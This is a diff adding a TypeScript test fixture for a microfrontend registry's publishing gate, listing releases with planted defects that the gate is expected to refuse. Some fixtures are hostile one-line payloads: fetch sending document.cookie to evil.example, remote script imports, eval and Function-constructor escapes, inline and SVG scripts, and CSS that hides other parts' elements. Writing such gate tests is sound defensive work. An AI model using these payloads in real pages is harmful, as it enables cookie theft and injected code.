@@ -1,0 +1,255 @@
+/**
+ * Releases with something wrong in them, and the three calls that bring one to a registry, as anybody could send them: for
+ * the tests of the gate, and for the table of planted defects against a real server.
+ */
+import { randomBytes } from 'node:crypto'
+import { containerScript, integrityOf, type SampleRelease, sampleRelease } from './releases.ts'
+
+type Rest = Partial<SampleRelease['manifest']>
+type Files = Readonly<Record<string, string | null>>
+
+let count = 0
+
+/** A release of a new id with other files; `HASH` and `CONTAINER` in them stand for its own. */
+export function planted(name: string, files: Files, rest: Rest = {}): SampleRelease {
+  count += 1
+  const id = `1.0.${count}-${count.toString(16).padStart(8, '0')}`
+  const base = sampleRelease(name, id, rest)
+  const contents = { ...base.contents, ...files }
+  const kept = Object.entries(contents).filter((each): each is [string, string] => each[1] !== null)
+  const own = Object.fromEntries(
+    kept.map(([path, text]) => [
+      path,
+      text.replaceAll('HASH', id.slice(-8)).replaceAll('CONTAINER', base.manifest.container),
+    ]),
+  )
+  const hashes = Object.fromEntries(Object.entries(own).map(([path, text]) => [path, integrityOf(text)]))
+  return { manifest: { ...base.manifest, files: hashes, ...rest }, contents: own }
+}
+
+export interface Answer {
+  readonly status: number
+  readonly body: { readonly error?: { readonly code: string; readonly message: string }; readonly moved?: boolean }
+}
+
+/** A registry as the holder of a deploy token sees it, without the commands. */
+export function registryAt(url: () => string) {
+  async function call(token: string, path: string, body: unknown): Promise<Answer> {
+    const answer = await fetch(`${url()}/api/${path}`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    })
+    return { status: answer.status, body: await answer.json() }
+  }
+
+  async function put(token: string, { manifest }: SampleRelease, path: string, body: string): Promise<number> {
+    const address = `${url()}/api/releases/uploads/${manifest.name}/${manifest.id}?file=${encodeURIComponent(path)}`
+    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }
+    return (await fetch(address, { method: 'PUT', headers, body })).status
+  }
+
+  return {
+    call,
+    put,
+
+    /** Announces, uploads, publishes. */
+    async send(token: string, release: SampleRelease, channel = 'stable'): Promise<Answer> {
+      const { manifest, contents } = release
+      const opened = await call(token, 'releases/uploads', { manifest })
+      if (opened.status !== 200) return opened
+      for (const [path, text] of Object.entries(contents)) await put(token, release, path, text)
+      return call(token, 'releases', { microfrontend: manifest.name, id: manifest.id, channel })
+    },
+
+    async isServed({ manifest }: SampleRelease): Promise<boolean> {
+      return (await fetch(`${url()}${manifest.entry}`)).status === 200
+    },
+  }
+}
+
+/** The configuration of a part with one page. */
+export const page = (paths: string[], rest: object = {}) => ({
+  pages: [{ name: 'page', paths, title: 'Page', guard: 'none' as const, hide: [], firstData: [], ...rest }],
+  widgets: [],
+  embeds: [],
+})
+const consumes = (module: string, range: string) =>
+  `;(()=>({moduleIdToConsumeDataMapping:{7:{shareKey:${JSON.stringify(module)},import:null,requiredVersion:${JSON.stringify(range)}}}}))()`
+
+const CONTAINER = containerScript('CONTAINER', ['./app'])
+
+export interface GateDefect {
+  readonly name: string
+  readonly files: Files
+  readonly rest: Rest
+  /** What the registry answers with 409. */
+  readonly says: RegExp
+}
+
+const DEFECTS: readonly [name: string, files: Files, rest: Rest, says: RegExp][] = [
+  ['an entry that is no container', { 'entry.js': 'globalThis.__evil=1' }, {}, /container: the entry is no container/],
+  ['an entry that is no script', { 'entry.js': 'var {' }, {}, /container: entry\.js is no script that can be read/],
+  [
+    'a container that does not expose its page',
+    { 'entry.js': containerScript('CONTAINER', ['./other']) },
+    {},
+    /container: the entry does not expose \.\/app/,
+  ],
+  [
+    'the container of somebody else',
+    {},
+    { container: 'mfe_globe_0000aaaa' },
+    /container: the container is called mfe_globe/,
+  ],
+  [
+    'a shared name that no shell has',
+    {},
+    { uses: { '@onfreq/session/session': ['useSession', 'nothere'] } },
+    /shared: nothere of @onfreq\/session\/session is used, the shell \S+ does not have it/,
+  ],
+  ['React ^20', {}, { requires: { react: '^20.0.0' } }, /shared: react \^20\.0\.0 is required, the shell \S+ has 19\./],
+  [
+    'React ^20 that the manifest keeps quiet about',
+    { 'entry.js': CONTAINER + consumes('react', '^20.0.0') },
+    { requires: {} },
+    /shared: it takes react \^20\.0\.0 and does not say so/,
+  ],
+  [
+    'another range in its bytes than in its manifest',
+    { 'entry.js': CONTAINER + consumes('react/jsx-runtime', '^20.0.0') },
+    { requires: { react: '^19.0.0' } },
+    /shared: it takes react\/jsx-runtime \^20\.0\.0 and says that it requires \^19\.0\.0/,
+  ],
+  ['the path of another part', {}, { config: page(['/plant', '/globe']) }, /claims: the path \/globe belongs to globe/],
+  ['that path in capitals and with a slash', {}, { config: page(['/GLOBE/']) }, /belongs to globe/],
+  ['what lies under the path of another part', {}, { config: page(['/globe/:id?']) }, /belongs to globe/],
+  [
+    'a path that nobody granted',
+    {},
+    { config: page(['/login']) },
+    /claims: the path \/login (was not granted to plant|belongs to account)/,
+  ],
+  [
+    'every callsign',
+    {},
+    { config: page(['/:callsign']) },
+    /claims: the path \/:callsign (was not granted|belongs to profile)/,
+  ],
+  [
+    'a widget of another part',
+    {},
+    { config: { ...page([]), pages: [], widgets: ['globe/globe'] } },
+    /widget globe\/globe belongs to globe/,
+  ],
+  [
+    'more than its budget',
+    { 'more.js': `"${randomBytes(45_000).toString('hex')}"` },
+    {
+      preload: { page: ['entry.js', 'page.css', 'more.js'] },
+      config: { ...page(['/plant']), budget: { page: 40_000 } },
+    },
+    /budget: page is \d+ bytes compressed, the budget is 40000/,
+  ],
+  [
+    'more than any budget, which it declares itself',
+    { 'more.js': `"${randomBytes(300_000).toString('hex')}"` },
+    { preload: { page: ['entry.js', 'more.js'] }, config: { ...page(['/plant']), budget: { page: 9_000_000 } } },
+    /the budget is 200000/,
+  ],
+  [
+    'styles of the whole page',
+    { 'page.css': '@layer mfe{body{background:red}}' },
+    {},
+    /styles: page\.css body reaches elements of others/,
+  ],
+  ['styles in no layer', { 'page.css': '.a-b-HASH{color:red}' }, {}, /page\.css \.a-b-\w+ stands in no layer/],
+  [
+    'styles in the layer of others',
+    { 'page.css': '@layer base{.a-b-HASH{color:red}}' },
+    {},
+    /@layer base belongs to others/,
+  ],
+  [
+    'styles for the brother of its elements',
+    { 'page.css': '@layer mfe{.a-b-HASH~header{display:none}}' },
+    {},
+    /reaches elements of others/,
+  ],
+  [
+    'styles behind :has()',
+    { 'page.css': '@layer mfe{header:has(.a-b-HASH){display:none}}' },
+    {},
+    /reaches elements of others/,
+  ],
+  [
+    'styles that are nested',
+    { 'page.css': '@layer mfe{.a-b-HASH{body &~header{display:none}}}' },
+    {},
+    /reaches elements of others/,
+  ],
+  [
+    'a font that everybody would get',
+    { 'page.css': '@font-face{font-family:Inter;src:url(a.woff2)}' },
+    {},
+    /@font-face Inter is a name of the whole page/,
+  ],
+  [
+    'a picture from elsewhere',
+    { 'page.css': '@layer mfe{.a-b-HASH{background:url(//evil.example/x.png)}}' },
+    {},
+    /reaches for \/\/evil\.example/,
+  ],
+  ['another style sheet', { 'page.css': '@import "https://evil.example/x.css";' }, {}, /brings another style sheet/],
+  ['eval', { 'more.js': 'eval(location.hash)' }, {}, /scripts: more\.js uses eval/],
+  ['eval by another way', { 'more.js': '(0,window["eval"])(location.hash)' }, {}, /uses eval/],
+  ['Function', { 'more.js': 'new Function("a","return a")' }, {}, /makes a function of a text/],
+  [
+    'Function by another name',
+    { 'more.js': '[].constructor.constructor("alert(1)")()' },
+    {},
+    /makes a function of a text/,
+  ],
+  ['a timer that runs a text', { 'more.js': 'setTimeout("alert(1)",1)' }, {}, /gives setTimeout a text to run/],
+  [
+    'a call to elsewhere',
+    { 'more.js': 'fetch("https://evil.example/?"+document.cookie)' },
+    {},
+    /reaches for https:\/\/evil\.example/,
+  ],
+  [
+    'a beacon to elsewhere',
+    { 'more.js': `navigator.sendBeacon(\`//evil.example/\${1}\`,"")` },
+    {},
+    /reaches for \/\/evil\.example/,
+  ],
+  [
+    'code from elsewhere',
+    { 'more.js': 'import("https://evil.example/x.js")' },
+    {},
+    /imports from https:\/\/evil\.example/,
+  ],
+  [
+    'a script element from elsewhere',
+    { 'more.js': 'let s=document.createElement("script");s.src="https://evil.example/x.js"' },
+    {},
+    /sets src to https:\/\/evil\.example/,
+  ],
+  [
+    'an inline script',
+    { 'more.js': 'document.body.innerHTML="<script>alert(1)</script>"' },
+    {},
+    /writes an inline script/,
+  ],
+  ['an inline script in JSX', { 'more.js': 'jsx("script",{children:"alert(1)"})' }, {}, /writes an inline script/],
+  ['a document', { 'page.html': '<script>alert(1)</script>' }, {}, /page\.html is of a kind that no release may hold/],
+  ['a picture that runs', { 'a.svg': '<svg onload="alert(1)"/>' }, {}, /a\.svg holds a script/],
+]
+
+/** Each of them is refused by the gate, at a site where the part `globe` has the path and the widget of its name. */
+export const GATE_DEFECTS: readonly GateDefect[] = DEFECTS.map(([name, files, rest, says]) => ({
+  name,
+  files,
+  rest,
+  says,
+}))
